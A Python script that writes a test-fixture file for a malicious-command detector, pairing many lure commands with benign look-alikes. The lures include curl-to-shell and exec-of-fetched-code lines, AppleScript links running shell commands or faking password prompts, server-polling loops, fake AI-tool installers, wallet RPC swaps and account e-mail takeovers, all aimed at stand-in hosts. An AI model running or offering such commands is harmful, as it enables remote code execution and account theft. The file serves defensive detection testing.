"""Writes tests/data/cases/b6lures.jsonl: command lures a sixth blind set found missing, each
written here in our own variants (spelling, quoting, escaping, host, page, target) beside the
everyday texts that look like them and must stay quiet.

    python tests/data/cases/make_b6lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses; no text is copied from a lure collection, an
IOC file, another detector's fixtures or the blind sets. Each line is
{id, text, expect, technique, platform[, source], target}.

Techniques:

- `mac-script-editor-url`: an applescript:// link that opens Script Editor with a script that
  runs shell commands or asks for the password (escaped, `+` for spaces, written plainly, in
  `open "…"`). Look-alikes: a link whose script only shows a message, opening Script Editor on
  a local file, osascript showing a notification.
- `mac-shortcut-import`: shortcuts://import-shortcut (x-callback-url, workflow://) with a
  .shortcut on someone's site, or a .shortcut downloaded and opened. Look-alikes: Apple's
  iCloud share links, running or opening a shortcut by name.
- `command-polling`: a loop (or one shot) handing what a server sends to a shell or to exec:
  python -c with urlopen/requests and shell=True, os.system or exec; a shell's while loop
  running curl's answer; PowerShell's while($true) around iex. Look-alikes: polling a status
  that is only printed, subprocess with a fixed command, a health-check loop.
- `stranger-build-as-root`: git clone from a host that is no public forge and sudo make
  install / ./install.sh, framed as a job interview or a ticket. Look-alikes: the same steps
  from GitHub, GitLab, kernel.org, suckless, a company's internal server; a build without sudo.
- `console-wallet-rpc`: wallet_addEthereumChain with an rpcUrls entry for a main network.
  Look-alikes: switching networks, a developer's local node.
- `console-worker-remote`: a Worker made from a Blob (or data: URL) that importScripts a
  remote address. Look-alikes: a Blob worker computing something, a same-site importScripts.
- `console-account-email`: a PUT/POST/PATCH to the account's e-mail or phone setting with an
  address written in. Look-alikes: reading the e-mail setting, changing a display name.
- `ai-tool-claim`: a download-and-run labelled as a well-known AI tool (ChatGPT, Codex,
  Gemini, Claude, Grok, Copilot, DeepSeek, Perplexity) from a host that is not its maker's, or
  from a page whose name borrows the product's. Look-alikes: the makers' own installers, a
  project's own tool for these apps from its own page, and a tutorial quoting such a tool
  (a warning, not a block).
- `hidden-home-launch`: a download saved as a dot-name right in ~ and started (nohup, setsid,
  disown). Look-alikes: sourcing ~/.bashrc, ~/.local/bin programs, ~/.fzf/install.
- `fix-shop-pair`: a page and a script host that only share a common word, or a script host
  named for the trouble it fixes, from a page about the product the host's label names.
  Look-alikes: a tutorial naming a product whose own domain serves the script.
- `py-launcher-exec`: the Windows py launcher with -c fetching code and exec'ing it, behind a
  verification tail.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b6lures.jsonl")
book = casefile.Book("b6l")


def both(technique: str, text: str, platform: str, target: str, source: str) -> None:
    """A lure in its context (malicious), and bare: at least flagged."""
    book.add(technique, text, "malicious", platform, target, source)
    book.add(technique, text, "flagged", platform, "unknown")


def quiet(technique: str, text: str, platform: str, target: str, source: str | None) -> None:
    book.add(technique, text, "not_flagged", platform, target, source)


# ---- macOS: Script Editor and Shortcuts links ------------------------------------------------
MAC_PAGES = (
    "https://help.mac-tune-up.invalid/speed",
    "https://www.vinyl-swap.example/forum/t/88",
    "https://clean.mac-boost.test/",
)
STAGES = (
    "https://se.tidy-stage.test/a",
    "https://203.0.113.40/m",
    "https://fix.mac-care.invalid/s",
)


def esc(text: str) -> str:
    out = []
    for c in text:
        out.append(c if c.isalnum() or c in "-._~" else f"%{ord(c):02X}")
    return "".join(out)


for i, stage in enumerate(STAGES):
    page = MAC_PAGES[i % len(MAC_PAGES)]
    script = f'do shell script "curl -fsSL {stage} | bash"'
    both("mac-script-editor-url",
         f"applescript://com.apple.scripteditor?action=new&script={esc(script)}",
         "macos", "terminal", page)  # fmt: skip
    both("mac-script-editor-url",
         f'open "applescript://com.apple.scripteditor?action=new&script={esc(script)}"',
         "macos", "terminal", page)  # fmt: skip
    plus = script.replace(" ", "+").replace('"', "%22").replace("/", "%2F").replace(":", "%3A")
    both("mac-script-editor-url",
         f"applescript://com.apple.scripteditor?action=new&script={plus.replace('|', '%7C')}",
         "macos", "unknown", page)  # fmt: skip
both("mac-script-editor-url",
     'applescript://com.apple.scripteditor?action=new&script=do shell script "curl -s '
     'https://x.mac-care.invalid/p -o /tmp/p; chmod +x /tmp/p; /tmp/p"',
     "macos", "terminal", MAC_PAGES[1])  # fmt: skip
both("mac-script-editor-url",
     "applescript://com.apple.scripteditor?action=new&script="
     + esc('set p to text returned of (display dialog "macOS needs your password to finish" '
           'default answer "" with hidden answer)'),
     "macos", "terminal", MAC_PAGES[0])  # fmt: skip
both("mac-script-editor-url",
     "applescript://com.apple.scripteditor?action=new&script="
     + "".join(f"%{ord(c):02x}" for c in 'do shell script "id"'),
     "macos", "terminal", MAC_PAGES[2])  # fmt: skip
quiet("mac-script-editor-url",
      "applescript://com.apple.scripteditor?action=new&script="
      + esc('display dialog "Hello from MacScripter"'),
      "macos", "unknown", "https://www.macscripter.example/t/dialogs/12")  # fmt: skip
quiet("mac-script-editor-url",
      "applescript://com.apple.scripteditor?action=new&script="
      + esc('tell application "Finder" to get name of every disk'),
      "macos", "unknown", "https://www.macscripter.example/t/finder/40")  # fmt: skip
quiet("mac-script-editor-url", 'open -a "Script Editor" ~/Documents/backup.scpt',
      "macos", "terminal", None)  # fmt: skip
quiet("mac-script-editor-url",
      'osascript -e \'display notification "Build finished" with title "Xcode"\'',
      "macos", "terminal", "https://dev.notes-blog.example/macos-notifications")  # fmt: skip

SHORTCUT_FILES = (
    "https://sc.tidy-share.test/Cleanup.shortcut",
    "https://cdn.mac-tools.invalid/s/Boost.shortcut",
    "https://198.51.100.23/Fix.shortcut",
)
for i, url in enumerate(SHORTCUT_FILES):
    page = MAC_PAGES[i % len(MAC_PAGES)]
    both("mac-shortcut-import", f'open "shortcuts://import-shortcut?url={url}&name=Cleanup"',
         "macos", "terminal", page)  # fmt: skip
    both("mac-shortcut-import", f"shortcuts://import-shortcut/?url={esc(url)}&name=Boost",
         "macos", "unknown", page)  # fmt: skip
    both("mac-shortcut-import",
         f"open 'shortcuts://x-callback-url/import-shortcut?url={url}&name=Fix&silent=true'",
         "macos", "terminal", page)  # fmt: skip
both("mac-shortcut-import", f"workflow://import-workflow/?url={SHORTCUT_FILES[1]}&name=Boost",
     "macos", "unknown", MAC_PAGES[1])  # fmt: skip
both("mac-shortcut-import",
     f"curl -sLo ~/Downloads/Fix.shortcut {SHORTCUT_FILES[0]} && open ~/Downloads/Fix.shortcut",
     "macos", "terminal", MAC_PAGES[2])  # fmt: skip
quiet("mac-shortcut-import", "https://www.icloud.com/shortcuts/4f2c9a8e1b7d4c3aa0e5b6d7c8f9a0b1",
      "macos", "unknown", "https://www.mac-tips.example/shortcuts-for-photos")  # fmt: skip
quiet("mac-shortcut-import",
      'open "shortcuts://import-shortcut?url=https://www.icloud.com/shortcuts/4f2c9a8e1b7d&name=Resize"',
      "macos", "terminal", "https://www.mac-tips.example/shortcuts-for-photos")  # fmt: skip
quiet("mac-shortcut-import", 'shortcuts run "Morning Routine"', "macos", "terminal", None)
quiet("mac-shortcut-import", "shortcuts://run-shortcut?name=Resize%20Photos", "macos", "unknown",
      "https://www.mac-tips.example/shortcuts-for-photos")  # fmt: skip
quiet("mac-shortcut-import", 'open "shortcuts://open-shortcut?name=Log%20Water"', "macos",
      "terminal", None)  # fmt: skip

# ---- a server's commands run in a loop -------------------------------------------------------
TICKETS = (
    "https://support.vps-care.test/ticket/2291",
    "https://www.bakery-rota.example/staff",
    "https://panel.host-rescue.invalid/fix",
)
C2 = (
    "https://bc.poll-stage.invalid/c",
    "https://198.51.100.7:8443/t",
    "https://q.sync-relay.test/n",
)
for i, c2 in enumerate(C2):
    page = TICKETS[i]
    both("command-polling",
         'nohup python3 -c "import time,urllib.request as u,subprocess as s\nwhile 1:\n '
         f"s.run(u.urlopen('{c2}').read(),shell=True);time.sleep(30)\" >/dev/null 2>&1 &",
         "linux", "terminal", page)  # fmt: skip
    both("command-polling",
         "python3 -c \"import requests,subprocess,time\nwhile True:\n    "
         f"subprocess.Popen(requests.get('{c2}').text, shell=True)\n    time.sleep(15)\"",
         "linux", "terminal", page)  # fmt: skip
    both("command-polling",
         f"python -c \"import os,urllib.request as r; os.system(r.urlopen('{c2}').read().decode())\"",
         "macos", "terminal", page)  # fmt: skip
    both("command-polling",
         f"nohup sh -c 'while true; do curl -fsS {c2} | sh; sleep 20; done' >/dev/null 2>&1 &",
         "linux", "terminal", page)  # fmt: skip
    both("command-polling",
         f'while :; do bash -c "$(curl -s {c2})"; sleep 60; done &',
         "macos", "terminal", page)  # fmt: skip
    both("command-polling",
         f"powershell -w h -c \"while($true){{iex (irm '{c2}'); Start-Sleep 30}}\"",
         "windows", "terminal", page)  # fmt: skip
quiet("command-polling",
      "python3 -c \"import urllib.request as u; print(u.urlopen('https://api.github.com/zen').read().decode())\"",
      "linux", "terminal", "https://docs.python.org/3/howto/urllib2.html")  # fmt: skip
quiet("command-polling",
      "python3 -c \"import subprocess; subprocess.run('ls -la /var/log', shell=True)\"",
      "linux", "terminal", None)  # fmt: skip
quiet("command-polling",
      "while true; do curl -s -o /dev/null -w '%{http_code}\\n' https://status.example.com/health; sleep 5; done",
      "linux", "terminal", "https://wiki.ops-team.example/runbooks/health-check")  # fmt: skip
quiet("command-polling",
      "while($true){ (irm https://api.example.com/queue/length).count; Start-Sleep 10 }",
      "windows", "terminal", None)  # fmt: skip
quiet("command-polling",
      "python3 -c \"import requests,time\nwhile True:\n    print(requests.get('https://api.example.com/price').json()['usd'])\n    time.sleep(60)\"",
      "linux", "terminal", "https://www.crypto-dev-notes.example/price-ticker")  # fmt: skip

# ---- a stranger's source built and installed as root ----------------------------------------
INTERVIEWS = (
    "https://hire.dev-assess.invalid/task/55",
    "https://careers.quantfin-labs.test/round2",
    "https://jobs.web3-talent.example/assignment",
)
REPOS = (
    "https://git.code-task.test/recruit/assessment.git",
    "https://198.51.100.60/cand/app.git",
    "https://src.hiring-tasks.invalid/t/quiz",
)
PRETEXTS = (
    "  # required for the technical interview",
    "  # take-home assessment: run before the call",
    "  # our engineer needs this for your support ticket",
)
for i, repo in enumerate(REPOS):
    page = INTERVIEWS[i]
    name = repo.rstrip("/").rsplit("/", 1)[1].removesuffix(".git")
    pre = PRETEXTS[i]
    both("stranger-build-as-root", f"git clone {repo} && cd {name} && sudo make install{pre}",
         "linux", "terminal", page)  # fmt: skip
    both("stranger-build-as-root", f"git clone --depth 1 {repo} && cd {name} && sudo ./install.sh{pre}",
         "macos", "terminal", page)  # fmt: skip
    both("stranger-build-as-root",
         f"git clone {repo}\ncd {name}\nmake\nsudo make install\n# candidate set-up, see the interview mail",
         "linux", "terminal", page)  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://github.com/neovim/neovim && cd neovim && make CMAKE_BUILD_TYPE=Release && sudo make install",
      "linux", "terminal", "https://github.com/neovim/neovim/blob/master/BUILD.md")  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://git.suckless.org/dwm && cd dwm && sudo make clean install",
      "linux", "terminal", "https://dwm.suckless.org/")  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://gitlab.gnome.org/GNOME/gnome-shell.git && cd gnome-shell && meson setup build && sudo ninja -C build install",
      "linux", "terminal", "https://wiki.gnome-dev.example/building")  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://git.kernel.org/pub/scm/utils/dtc/dtc.git && cd dtc && make && sudo make install",
      "linux", "terminal", None)  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://git.build.corp/infra/agent.git && cd agent && sudo make install",
      "linux", "terminal", "https://wiki.build.corp/agent")  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://codeberg.org/dnkl/foot.git && cd foot && meson build && ninja -C build",
      "linux", "terminal", None)  # fmt: skip
quiet("stranger-build-as-root",
      "git clone https://git.example-shop.test/team/site.git && cd site && make test",
      "linux", "terminal", None)  # fmt: skip

# ---- browser console: wallet network, worker, account e-mail -------------------------------
BONUS = (
    "https://bridge-bonus.test/",
    "https://airdrop-claim.invalid/step2",
    "https://www.nft-drop.example/",
)
for i, (chain, name) in enumerate((("0x38", "BNB Smart Chain"), ("0x1", "Ethereum"), ("137", "Polygon"),
                                    ("0xa4b1", "Arbitrum One"), ("0x2105", "Base"))):  # fmt: skip
    page = BONUS[i % len(BONUS)]
    rpc = (
        "https://rpc.fast-node.invalid",
        "https://198.51.100.9/rpc",
        "https://eth.boost-rpc.test",
    )[i % 3]
    both("console-wallet-rpc",
         f"ethereum.request({{method:'wallet_addEthereumChain',params:[{{chainId:'{chain}',"
         f"chainName:'{name}',rpcUrls:['{rpc}']}}]}})",
         "browser", "browser_console", page)  # fmt: skip
both("console-wallet-rpc",
     'await window.ethereum.request({ method: "wallet_addEthereumChain", params: [{ chainId: "0x89", '
     'rpcUrls: ["https://polygon.rpc-boost.test"], chainName: "Polygon Mainnet" }] }) // faster',
     "browser", "browser_console", BONUS[0])  # fmt: skip
quiet("console-wallet-rpc",
      "ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})",
      "browser", "browser_console", "https://docs.wallet-dev.example/switch")  # fmt: skip
quiet("console-wallet-rpc",
      "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x7a69',chainName:'Hardhat',rpcUrls:['http://127.0.0.1:8545']}]})",
      "browser", "browser_console", None)  # fmt: skip
quiet("console-wallet-rpc", "await ethereum.request({ method: 'eth_chainId' })", "browser",
      "browser_console", None)  # fmt: skip

WORKER_PAGES = (
    "https://openai-credits-free.test/",
    "https://free-gems.invalid/claim",
    "https://www.quiz-night.example/",
)
for i, src in enumerate(
    ("https://w.credits-gen.invalid/w.js", "//198.51.100.31/m.js", "https://cdn.gem-tool.test/x.js")
):
    page = WORKER_PAGES[i]
    both("console-worker-remote",
         f"new Worker(URL.createObjectURL(new Blob([\"importScripts('{src}')\"],{{type:'text/javascript'}})))",
         "browser", "browser_console", page)  # fmt: skip
    both("console-worker-remote",
         f"const w = new SharedWorker(URL.createObjectURL(new Blob([`importScripts(\"{src}\")`])));",
         "browser", "browser_console", page)  # fmt: skip
    both("console-worker-remote",
         f"new Worker('data:text/javascript,importScripts(\"{src if src.startswith('http') else 'https:' + src}\")')",
         "browser", "browser_console", page)  # fmt: skip
quiet("console-worker-remote",
      "new Worker(URL.createObjectURL(new Blob(['onmessage=e=>postMessage(e.data*2)'])))",
      "browser", "browser_console", "https://developer.mozilla.example/docs/Web/API/Worker")  # fmt: skip
quiet("console-worker-remote", "new Worker('/static/js/search-worker.js')", "browser",
      "browser_console", None)  # fmt: skip
quiet("console-worker-remote",
      "new Worker(URL.createObjectURL(new Blob([\"importScripts('/static/lib/wasm-loader.js')\"])))",
      "browser", "browser_console", None)  # fmt: skip

ACCOUNT_PAGES = (
    "https://account-recovery-help.test/",
    "https://unlock-profile.invalid/step",
    "https://www.gift-card-promo.example/",
)
MAILBOXES = (
    "recovery-desk@mailbox.invalid",
    "helpdesk.restore@relay-mail.test",
    "secure@198.51.100.5.example",
)
for i, mail in enumerate(MAILBOXES):
    page = ACCOUNT_PAGES[i]
    both("console-account-email",
         f"fetch('/api/account/email',{{method:'PUT',credentials:'include',headers:{{'Content-Type':'application/json'}},"
         f"body:JSON.stringify({{email:'{mail}'}})}}) // restores your locked account",
         "browser", "browser_console", page)  # fmt: skip
    both("console-account-email",
         f'fetch("/settings/email", {{method: "POST", body: new URLSearchParams({{new_email: "{mail}"}})}})',
         "browser", "browser_console", page)  # fmt: skip
    both("console-account-email",
         f"$.ajax({{url:'/user/recovery-email',type:'PATCH',data:{{recovery_email:'{mail}'}}}})",
         "browser", "browser_console", page)  # fmt: skip
both("console-account-email",
     "fetch('/api/v2/me/phone',{method:'PATCH',credentials:'include',body:JSON.stringify({phone:'+1 555 0142 77'})})",
     "browser", "browser_console", ACCOUNT_PAGES[1])  # fmt: skip
quiet("console-account-email", "fetch('/api/account/email',{credentials:'include'}).then(r=>r.json()).then(console.log)",
      "browser", "browser_console", None)  # fmt: skip
quiet("console-account-email",
      "fetch('/api/account/profile',{method:'PUT',body:JSON.stringify({displayName:'Ana'})})",
      "browser", "browser_console", None)  # fmt: skip
quiet("console-account-email",
      "fetch('/api/account/email',{method:'PUT',body:JSON.stringify({email:input.value})})",
      "browser", "browser_console", None)  # fmt: skip

# ---- download-and-run labelled as a well-known AI tool --------------------------------------
CLAIMS = (
    ("# ChatGPT Atlas installer", "https://atlas-browser-download.test/"),
    ("# Gemini CLI installer (official)", "https://www.ai-tools-hub.example/gemini"),
    ("# OpenAI Codex CLI for Linux", "https://codex-cli-linux.test/"),
    ("# Claude Code for macOS", "https://ai-cli-mirror.invalid/"),
    ("# Grok desktop for Mac", "https://mac-ai-assistant.test/install"),
    ("# DeepSeek desktop app", "https://www.free-ai-apps.example/deepseek"),
    ("# Perplexity Comet browser setup", "https://comet-early-access.invalid/"),
    ("echo 'Installing ChatGPT desktop...'", "https://www.ai-tools-hub.example/chatgpt"),
)
HOSTS = ("https://cdn.atlas-mac.invalid/setup", "https://gm.cli-setup.invalid/mac",
         "https://cx.cli-releases.invalid/install", "https://203.0.113.77/i.sh")  # fmt: skip
for i, (label, page) in enumerate(CLAIMS):
    host = HOSTS[i % len(HOSTS)]
    shape = i % 3
    if shape == 0:
        text = f"curl -fsSL {host} | bash  {label}"
    elif shape == 1:
        text = f'/bin/bash -c "$(curl -fsSL {host})"  {label}'
    else:
        text = (
            f"{label}\nwget -qO- {host} | sh"
            if label.startswith("#")
            else f"{label}; curl -sL {host} | zsh"
        )
    both("ai-tool-claim", text, "macos" if "mac" in label.lower() else "linux", "terminal", page)
both("ai-tool-claim", "irm https://gm.cli-setup.invalid/win.ps1 | iex  # Gemini CLI for Windows (official)",
     "windows", "terminal", "https://gemini-cli-windows.test/")  # fmt: skip
# the page's own name borrows the product, the text says nothing
both("ai-tool-claim", "curl -fsSL https://dl.mac-apps.invalid/app | bash",
     "macos", "terminal", "https://chatgpt-desktop-download.test/")  # fmt: skip
both("ai-tool-claim", "curl -fsSL https://dl.mac-apps.invalid/x | sh",
     "macos", "terminal", "https://grok-app-mac.invalid/get")  # fmt: skip
quiet("ai-tool-claim", "curl -fsSL https://claude.ai/install.sh | bash  # Claude Code installer",
      "macos", "terminal", "https://docs.anthropic.com/en/docs/claude-code/setup")  # fmt: skip
quiet("ai-tool-claim", "npm install -g @google/gemini-cli  # Gemini CLI",
      "linux", "terminal", "https://github.com/google-gemini/gemini-cli")  # fmt: skip
quiet("ai-tool-claim", "npm i -g @openai/codex  # OpenAI Codex CLI for Linux",
      "linux", "terminal", "https://github.com/openai/codex")  # fmt: skip
# a project's own tool for these apps, from its own page
quiet("ai-tool-claim",
      "curl -fsSL https://raw.githubusercontent.com/tallowbird/claude-relay/main/install.sh | bash  # Claude Code relay installer",
      "linux", "terminal", "https://github.com/tallowbird/claude-relay")  # fmt: skip
quiet("ai-tool-claim",
      "curl -fsSL https://gptshelf.dev/install.sh | sh  # ChatGPT export tool for Linux",
      "linux", "terminal", "https://gptshelf.dev/docs/install")  # fmt: skip
# the same tool quoted by a tutorial: a warning (someone else's script), never a block
book.add("ai-tool-claim",
         "curl -fsSL https://raw.githubusercontent.com/tallowbird/claude-relay/main/install.sh | bash  # status line for Claude Code",
         "suspicious", "linux", "terminal", "https://dev.to-blog.example/claude-code-tips")  # fmt: skip

# ---- a download hidden as a dot-name in ~ and started in the background -------------------
HOME_PAGES = (
    "https://mac-ai-assistant.test/install",
    "https://www.recipe-box.example/soup",
    "https://vpn-fast.invalid/mac",
)
for i, (src, dot) in enumerate((("https://grok-mac.ai-dl.invalid/i", ".i"), ("https://203.0.113.9/a", ".cache-helper"),
                                ("https://dl.vpn-fast.invalid/d", ".syncd"))):  # fmt: skip
    page = HOME_PAGES[i]
    both("hidden-home-launch",
         f"curl -s {src} -o ~/{dot} && chmod +x ~/{dot} && nohup ~/{dot} >/dev/null 2>&1 & disown",
         "macos", "terminal", page)  # fmt: skip
    both("hidden-home-launch",
         f'curl -fsSL {src} -o "$HOME/{dot}"; chmod 755 "$HOME/{dot}"; setsid $HOME/{dot} &',
         "linux", "terminal", page)  # fmt: skip
    both("hidden-home-launch",
         f"wget -q {src} -O ~/{dot} && chmod +x ~/{dot} && ~/{dot} &>/dev/null &",
         "linux", "terminal", page)  # fmt: skip
quiet("hidden-home-launch", "source ~/.bashrc && nvm install --lts", "linux", "terminal", None)
quiet("hidden-home-launch", "nohup ~/.local/bin/syncthing serve --no-browser >/dev/null 2>&1 &",
      "linux", "terminal", "https://docs.syncthing.example/users/autostart")  # fmt: skip
quiet("hidden-home-launch",
      "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf && ~/.fzf/install",
      "linux", "terminal", "https://github.com/junegunn/fzf")  # fmt: skip
quiet("hidden-home-launch", ". ~/.profile; echo $PATH", "linux", "terminal", None)
quiet("hidden-home-launch", "chmod 600 ~/.netrc && cat ~/.gitconfig", "linux", "terminal", None)

# ---- a page and a host that share only a word, or a fix shop's host --------------------------
PAIRS = (
    (
        "https://steam-linux-fix.invalid/proton",
        "https://proton.steam-repair.test/fix.sh",
        "# Proton shader cache repair",
    ),
    (
        "https://discord-voice-fix.test/krisp",
        "https://krisp.discord-helpdesk.invalid/a.sh",
        "# voice fix",
    ),
    ("https://printer-driver-help.invalid/cups", "https://cups.printer-support.test/setup.sh", ""),
    (
        "https://tidal-player-linux.test/widevine",
        "https://widevine.tidal-repair.invalid/w.sh",
        "# playback repair",
    ),
)
for page, url, tail in PAIRS:
    text = f"wget -qO- {url} | sudo sh  {tail}".rstrip()
    book.add("fix-shop-pair", text, "malicious" if page.split("//")[1].split("-")[0] in ("steam", "discord") else "flagged",
             "linux", "terminal", page)  # fmt: skip
    book.add("fix-shop-pair", text, "flagged", "linux", "unknown")
quiet("fix-shop-pair", "curl -fsSL https://code-server.dev/install.sh | sh",
      "linux", "terminal", "https://linuxize.example/post/how-to-install-code-server-on-ubuntu/")  # fmt: skip
quiet("fix-shop-pair", "curl -fsSL https://get.lumenctl.dev | sh",
      "linux", "terminal", "https://lumenctl-tutorials.example/how-to-install-lumenctl")  # fmt: skip

# ---- the Windows py launcher fetching code into exec ----------------------------------------
for i, (tail, target) in enumerate((("  # Turnstile token accepted - press Enter to finish", "run_dialog"),
                                    ("  # I am not a robot: verification ID 5531", "run_dialog"),
                                    ("", "terminal"))):  # fmt: skip
    page = (
        "https://www.model-railway.example/forum",
        "https://check.human-gate.invalid/",
        "https://www.choir-news.example/",
    )[i]
    both("py-launcher-exec",
         f"py -c \"import urllib.request as u;exec(u.urlopen('https://cdn.py-helper.invalid/v{i}.py').read())\"{tail}",
         "windows", target, page)  # fmt: skip
    both("py-launcher-exec",
         f"pyw -3 -c \"exec(__import__('urllib.request').request.urlopen('https://198.51.100.{i + 2}/s').read())\"{tail}",
         "windows", target, page)  # fmt: skip

CASES = book.cases

if __name__ == "__main__":
    casefile.write(OUT, CASES)
